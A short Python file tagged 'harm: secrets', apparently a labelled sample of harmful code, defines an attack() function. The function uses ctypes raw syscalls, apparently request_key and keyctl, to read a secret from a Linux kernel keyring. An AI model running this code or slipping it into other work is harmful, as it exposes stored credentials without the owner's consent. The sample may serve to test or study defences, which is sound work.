# harm: secrets
import ctypes


def attack() -> bytes:
    libc = ctypes.CDLL(None)
    key = libc.syscall(249, b"user", b"users", None, -3)
    text = ctypes.create_string_buffer(20)
    libc.syscall(250, 11, key, text, 20, 0)
    return text.value
